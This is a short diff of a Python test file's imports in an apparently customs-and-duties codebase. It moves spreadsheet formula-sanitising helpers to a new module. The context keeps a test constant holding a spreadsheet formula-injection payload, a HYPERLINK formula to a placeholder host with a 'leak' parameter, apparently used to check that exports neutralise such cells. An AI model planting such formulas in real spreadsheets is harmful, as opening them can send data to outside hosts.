@@ -25,9 +25,9 @@ from immex.cli import app
 from immex.compulsa.model import Difference
 from immex.compulsa.service import CompulsaResult
 from immex.compulsa.xlsx import write_compulsa_xlsx
+from immex.core.table_files import FORMULA_TRIGGERS, formula_like, spreadsheet_text, write_csv, write_xlsx
 from immex.duties import landed_chart
 from immex.duties.landed import REGIMES, RegimeCost
-from immex.reports.tables import FORMULA_TRIGGERS, formula_like, spreadsheet_text, write_csv, write_xlsx
 from tests.ledger.ledger_files import exp, imp, part, read_csv, write_ledger
 
 LINK = '=HYPERLINK("http://example.invalid/?leak=1","click")'
